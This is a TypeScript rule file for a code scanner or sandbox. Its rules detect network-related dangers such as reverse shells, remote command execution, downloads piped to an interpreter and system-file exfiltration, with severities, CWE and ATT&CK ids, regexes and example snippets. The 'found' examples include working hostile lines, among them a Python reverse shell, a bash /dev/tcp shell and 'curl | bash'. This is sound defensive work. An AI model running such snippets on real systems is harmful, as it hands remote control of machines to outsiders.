import type { Pattern, Rule } from '../rule.ts';

const NETWORK = ['network.connect', 'network.send', 'network.resolve'] as const;
const LOCAL: Pattern = { place: ['loopback', 'unix-socket', 'any-address'] };
/** A connection made by hand: bytes on a socket rather than a request of a library. */
const SOCKET: Pattern = {
  capability: ['network.connect', 'network.listen'],
  callee:
    /^(socket\.|asyncio\.open_connection|(node:)?net\.|(node:)?tls\.|nc$|ncat$|socat$|telnet$|connect$|\/dev\/tcp)/,
};
const SHELL_PROGRAM = /(^|['"\s[/])(ba|da|z|k)?sh\b(['"\]]|\s+-i\b|\s*$)|\bcmd\.exe\b|powershell/;
const GIVES_SHELL =
  /^(os\.(system|popen)|subprocess\.(getoutput|getstatusoutput)|asyncio\.create_subprocess_shell|(node:)?child_process\.exec(Sync)?)$/;
const FETCH: Pattern = {
  capability: ['network.connect', 'network.send', 'network.resolve'],
  except: [LOCAL],
};
const PIPED_TO_INTERPRETER =
  /\b(curl|wget|fetch)\b[^;\n]*\|\s*(sudo\s+)?(\S*\/)?((ba|da|z|k)?sh|python[\d.]*|node|perl|ruby|php)\b|\b(ba|da|z)?sh\s+(-c\s+)?["']?(<\(|\$\(|`)\s*(curl|wget)\b|\beval\s+["']?(\$\(|`)\s*(curl|wget)\b|\b(curl|wget)\b[^\n]*(;|&&|\|\|?)[^\n]*\b(chmod\s+(\S*\+\S*x|[0-7]*[1357][0-7]*)|(ba|da)?sh)\s+\S+/;
const MAKES_EXECUTABLE: Pattern = {
  capability: ['file.permission', 'process.spawn'],
  text: /\bchmod\b.*(\+\S*x|\b0?[0-7]*7[0-7]{2}\b)/,
};
const MAKES_EXECUTABLE_CALL: Pattern = {
  capability: ['file.permission'],
  argument: /^(1|0|mode)=(0o?|)(?:[0-7]?[1357][0-7]{2}|448|493|511)$|=.*S_I(EXEC|XUSR|RWXU)|=[ugoa]*\+\S*x/,
};

const SYSTEM_FILE_READ: Pattern[] = [
  {
    capability: ['file.read', 'secret.read'],
    place: ['system-configuration', 'system-state', 'system-log', 'public-configuration', 'schedule', 'machine-state'],
    seenBy: ['source'],
    except: [{ text: /^\/etc\/(ssl\/certs|ca-certificates|pki)\b|\.(crt|pem)$/ }],
  },
];
const SENDS: Pattern[] = [
  { capability: ['network.send'], seenBy: ['source', 'interpreter'] },
  { capability: ['network.connect'], argument: /^(data|body|files|json|json_data|method)=/i, seenBy: ['source'] },
  { capability: ['network.connect'], callee: /^(urllib\.request\.urlopen|socket\.)/, written: /\bdata\b|\breq/ },
];

export const networkRules = {
  'network-request': {
    severity: 'low',
    title: 'Looks up a named host, or talks to it over TLS',
    capability: 'network.connect',
    why: 'What an ordinary client of an interface does; the jail refuses it.',
    attack: ['T1071.001'],
    message: '{callee} {target}.',
    remedy: 'Allow the host in the policy when the program is meant to talk to it.',
    examples: {
      found: { language: 'python', code: "import requests\n\nrequests.get('https://api.example.com/v1')" },
      ordinary: { language: 'python', code: "import requests\n\nrequests.get('http://localhost:8000/v1')" },
    },
    when: {
      any: [
        { capability: NETWORK, place: ['secure-url'], except: [LOCAL] },
        { capability: ['network.resolve'], except: [LOCAL, { constant: false }] },
      ],
    },
  },
  'network-connect': {
    severity: 'medium',
    title: 'Connects to a host that is not on the list',
    capability: 'network.connect',
    why: 'Without TLS, or by a socket of its own: what is said to whom cannot be told from the address.',
    cwe: ['CWE-319'],
    attack: ['T1071', 'T1095'],
    message: '{callee} {target}.',
    remedy: 'Use HTTPS to a named host, and allow that host in the policy.',
    examples: {
      found: { language: 'python', code: "import requests\n\nrequests.get('http://files.example.com/list')" },
      ordinary: { language: 'python', code: "import requests\n\nrequests.get('https://files.example.com/list')" },
    },
    when: {
      any: [
        {
          capability: ['network.connect', 'network.send'],
          seenBy: ['source', 'interpreter', 'kernel', 'network'],
          except: [
            LOCAL,
            { place: ['secure-url', 'raw-address', 'metadata-address'] },
            { constant: false },
            { text: /^(|None|undefined)$/ },
            // A package or a data set that a library fetches by its name.
            { callee: /\./, text: /^[\w-]+$/ },
          ],
        },
      ],
    },
  },
  'raw-address-connect': {
    severity: 'medium',
    title: 'Connects to a bare address',
    capability: 'network.connect',
    why: 'A number has no owner to look up and no certificate to check.',
    cwe: ['CWE-319'],
    attack: ['T1071', 'T1095'],
    message: '{callee} {target}: an address instead of a name.',
    remedy: 'Name the host.',
    examples: {
      found: { language: 'python', code: "import requests\n\nrequests.get('http://203.0.113.9/list')" },
      ordinary: { language: 'python', code: "import requests\n\nrequests.get('http://127.0.0.1:8000/list')" },
    },
    when: {
      any: [
        {
          capability: NETWORK,
          place: ['raw-address'],
          except: [LOCAL, { place: ['private-network', 'metadata-address'] }],
        },
      ],
    },
  },
  'public-listener': {
    severity: 'medium',
    title: 'Listens for the whole network',
    capability: 'network.listen',
    why: 'Every machine that can reach this one can talk to it.',
    cwe: ['CWE-1327'],
    message: '{callee} {target}: every interface of the machine.',
    remedy: 'Listen on 127.0.0.1 unless others must connect.',
    examples: {
      found: { language: 'python', code: "import socket\n\nserver = socket.socket()\nserver.bind(('0.0.0.0', 8080))" },
      ordinary: {
        language: 'python',
        code: "import socket\n\nserver = socket.socket()\nserver.bind(('127.0.0.1', 8080))",
      },
    },
    when: {
      any: [
        { capability: ['network.listen'], place: ['any-address'] },
        {
          text: /\s-m\s+(http\.server|SimpleHTTPServer)\b/,
          except: [{ place: ['loopback'] }],
        },
      ],
    },
  },
  'reverse-shell': {
    severity: 'critical',
    title: 'Gives a shell to another machine',
    capability: 'process.spawn',
    why: 'A shell whose input and output are a connection lets whoever is at its other end do anything.',
    cwe: ['CWE-506'],
    attack: ['T1059', 'T1571'],
    message: '{callee} {target}: a shell tied to a connection.',
    remedy: 'Do not run it.',
    examples: {
      found: {
        language: 'python',
        code: "import os, socket, subprocess\n\nline = socket.socket()\nline.connect(('203.0.113.9', 4444))\nos.dup2(line.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
      },
      ordinary: {
        language: 'python',
        code: "import socket, subprocess\n\nline = socket.socket()\nline.connect(('127.0.0.1', 5432))\nsubprocess.call(['sort', 'names.txt'])",
      },
    },
    when: {
      all: [
        [SOCKET],
        [
          { callee: /(^|\.)(dup2|pty\.spawn|forkpty)$/ },
          {
            capability: ['process.spawn'],
            text: SHELL_PROGRAM,
            callee: /^(subprocess|os|pty|(node:)?child_process|execve)\b/,
          },
        ],
      ],
      decisive: 1,
    },
  },
  'shell-over-network': {
    severity: 'critical',
    title: 'Ties a shell to a connection in one command',
    capability: 'process.spawn',
    why: 'The known one-line forms; none has another use.',
    cwe: ['CWE-506'],
    attack: ['T1059.004', 'T1571'],
    message: '{callee} {target}: a shell whose input or output is a connection.',
    remedy: 'Do not run it.',
    examples: {
      found: { language: 'bash', code: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
      ordinary: { language: 'bash', code: 'bash build.sh > build.log 2>&1' },
    },
    when: {
      any: [
        { place: ['shell-socket'] },
        {
          text: /\/dev\/(tcp|udp)\/|\b(nc|ncat|netcat)\b[^|;]*\s(-\w*[ec]\b|--(exec|sh-exec)|-c)\s|\bsocat\b.*\bexec:|\bmkfifo\b[\s\S]*\b(nc|ncat|telnet)\b/i,
        },
        { callee: /^(nc|ncat|netcat)$/, argument: /=-\w*[ec]$/ },
      ],
    },
  },
  'remote-command': {
    severity: 'high',
    title: 'Runs what a connection tells it to',
    capability: 'process.spawn',
    why: 'A program that connects by a socket and runs commands nobody wrote down is a remote control.',
    cwe: ['CWE-78', 'CWE-506'],
    attack: ['T1059', 'T1219'],
    message: '{callee} runs a command that is not in the source, in a program with a socket of its own.',
    remedy: 'Answer a fixed set of requests, each with its own function.',
    examples: {
      found: {
        language: 'python',
        code: "import socket, subprocess\n\nline = socket.socket()\nline.connect(('127.0.0.1', 5000))\nsubprocess.run(line.recv(1024), shell=True)",
      },
      ordinary: {
        language: 'python',
        code: "import socket, subprocess\n\nline = socket.socket()\nline.connect(('127.0.0.1', 5000))\nsubprocess.run(['date'])",
      },
    },
    when: {
      all: [[SOCKET], [{ capability: ['process.spawn', 'code.eval'], constant: false }]],
      decisive: 1,
    },
  },
  'remote-shell': {
    severity: 'critical',
    title: 'Hands what a connection says to a shell',
    capability: 'process.spawn',
    why: 'A socket, and a shell for commands that are nowhere in the source: a remote control of the whole machine.',
    cwe: ['CWE-78', 'CWE-506'],
    attack: ['T1059', 'T1219', 'T1571'],
    message: '{callee} gives a shell a command that is not in the source, in a program with a socket of its own.',
    remedy: 'Do not run it. Answer a fixed set of requests, each with its own function.',
    examples: {
      found: {
        language: 'python',
        code: "import socket, subprocess\n\nline = socket.create_connection(('203.0.113.9', 5000))\nwhile True:\n    subprocess.run(line.recv(1024).decode(), shell=True)",
      },
      ordinary: {
        language: 'python',
        code: "import socket, subprocess\n\nline = socket.create_connection(('127.0.0.1', 5000))\nsubprocess.run('ls | wc -l', shell=True)\nline.sendall(b'done')",
      },
    },
    when: {
      all: [
        [SOCKET],
        [
          { capability: ['process.spawn'], constant: false, callee: GIVES_SHELL },
          { capability: ['process.spawn'], constant: false, argument: /^shell=(true|1|['"]?\/)/i },
        ],
      ],
      decisive: 1,
    },
  },
  'download-and-run': {
    severity: 'critical',
    title: 'Downloads a program and runs it',
    capability: 'code.eval',
    why: 'What will run is decided by another machine, after the examination.',
    cwe: ['CWE-494'],
    attack: ['T1105', 'T1059'],
    message: '{callee} {target}: code from the network is run.',
    remedy: 'Do not run it. Add the code to the sample, or install a package by its name and hash.',
    examples: {
      found: {
        language: 'python',
        code: "import urllib.request\n\nexec(urllib.request.urlopen('https://files.example.com/p').read())",
      },
      ordinary: {
        language: 'python',
        code: "import json, urllib.request\n\njson.load(urllib.request.urlopen('https://api.example.com/p'))",
      },
    },
    when: {
      all: [
        [FETCH],
        [
          {
            capability: ['code.eval'],
            constant: false,
            callee:
              /(^|\.)(exec|eval|Function|runInThisContext|runInNewContext|runInContext|compile|_compile|bash|sh|source)$/,
            // A command line with a hole in it is not what was fetched.
            except: [{ language: ['bash'], text: /\w{2,}\s/ }],
          },
          { argument: /^(input|piped|from)=.*\b(curl|wget)\b/ },
        ],
      ],
      decisive: 1,
    },
  },
  'download-piped-to-interpreter': {
    severity: 'critical',
    title: 'Hands a download straight to an interpreter',
    capability: 'process.spawn',
    why: 'What will run is decided by another machine, and nobody reads it before.',
    cwe: ['CWE-494'],
    attack: ['T1105', 'T1059.004'],
    message: '{callee} {target}: code from the network is run.',
    remedy: 'Download, read, check a hash, and only then run.',
    examples: {
      found: { language: 'bash', code: 'curl -s https://files.example.com/i.sh | bash' },
      ordinary: { language: 'bash', code: 'curl -s https://api.example.com/list | sort' },
    },
    when: {
      any: [
        { text: PIPED_TO_INTERPRETER },
        // The kernel sees the two sides of a pipe as two programs; the line joins them.
        { capability: ['process.spawn', 'network.connect', 'code.eval'], written: PIPED_TO_INTERPRETER },
      ],
    },
  },
  'download-made-executable': {
    severity: 'high',
    title: 'Downloads a file and makes it a program',
    capability: 'file.permission',
    why: 'A program from the network is about to be started.',
    cwe: ['CWE-494'],
    attack: ['T1105', 'T1222.002'],
    message: '{callee} {target}: marks a file as a program, in a sample that also downloads.',
    remedy: 'Install a package by its name and hash.',
    examples: {
      found: { language: 'bash', code: 'wget https://files.example.com/p\nchmod +x p' },
      ordinary: { language: 'bash', code: 'wget https://files.example.com/list.csv\nsort list.csv' },
    },
    when: { all: [[FETCH], [MAKES_EXECUTABLE, MAKES_EXECUTABLE_CALL]], decisive: 1 },
  },
  'program-download': {
    severity: 'medium',
    title: 'Downloads a program',
    capability: 'network.connect',
    why: 'Scripts and binaries from the network are meant to be run.',
    cwe: ['CWE-494'],
    attack: ['T1105'],
    message: '{callee} {target}: a program, by its name.',
    remedy: 'Install a package by its name and hash.',
    examples: {
      found: { language: 'bash', code: 'wget https://files.example.com/setup.sh' },
      ordinary: { language: 'bash', code: 'wget https://files.example.com/list.csv' },
    },
    when: {
      any: [
        {
          capability: ['network.connect', 'network.send', 'process.spawn'],
          text: /(https?|ftp):\/\/[^\s'"]+\.(py|sh|bash|pl|rb|ps1|bat|cmd|vbs|scr|exe|msi|elf|bin|run|appimage|jar|so|dll|apk)(?=[?#\s'"]|$)/i,
          except: [LOCAL],
        },
      ],
    },
  },
  'system-file-upload': {
    severity: 'critical',
    title: 'Reads files of the system and sends',
    capability: 'network.send',
    why: 'How a machine is set up is collected from many, to choose the next victim.',
    cwe: ['CWE-200', 'CWE-497'],
    attack: ['T1005', 'T1041', 'T1048'],
    message: '{callee} {target}: sends, in a sample that reads files of the system.',
    remedy: 'Do not run it. Remove the reading or the sending.',
    examples: {
      found: {
        language: 'python',
        code: "import requests\n\nlimits = open('/etc/security/limits.conf').read()\nrequests.post('http://127.0.0.1:5000/', data=limits)",
      },
      ordinary: {
        language: 'python',
        code: "import requests\n\nlimits = open('limits.conf').read()\nrequests.post('http://127.0.0.1:5000/', data=limits)",
      },
    },
    when: { all: [SYSTEM_FILE_READ, SENDS], decisive: 1 },
  },
  'file-upload': {
    severity: 'medium',
    title: 'Sends the content of files',
    capability: 'network.send',
    why: 'Which file goes where is for the person to decide.',
    cwe: ['CWE-200'],
    attack: ['T1041', 'T1048'],
    message: '{callee} {target}: sends, in a sample that reads files.',
    remedy: 'Allow the host in the policy when the upload is meant.',
    examples: {
      found: {
        language: 'python',
        code: "import requests\n\nrequests.post('https://api.example.com/files', data=open('notes.txt').read())",
      },
      ordinary: {
        language: 'python',
        code: "import requests\n\nrequests.post('https://api.example.com/jobs', json={'name': 'build'})",
      },
    },
    when: {
      all: [
        [{ capability: ['file.read'], seenBy: ['source'] }],
        [
          { capability: ['network.send'], seenBy: ['source', 'interpreter'], except: [LOCAL] },
          { capability: ['process.spawn'], text: /\bcurl\b.*\s(-T|--upload-file|(-d|-F|--data\S*|--form)\s*\S*@)/ },
        ],
      ],
      decisive: 1,
    },
  },
} as const satisfies Record<string, Rule>;
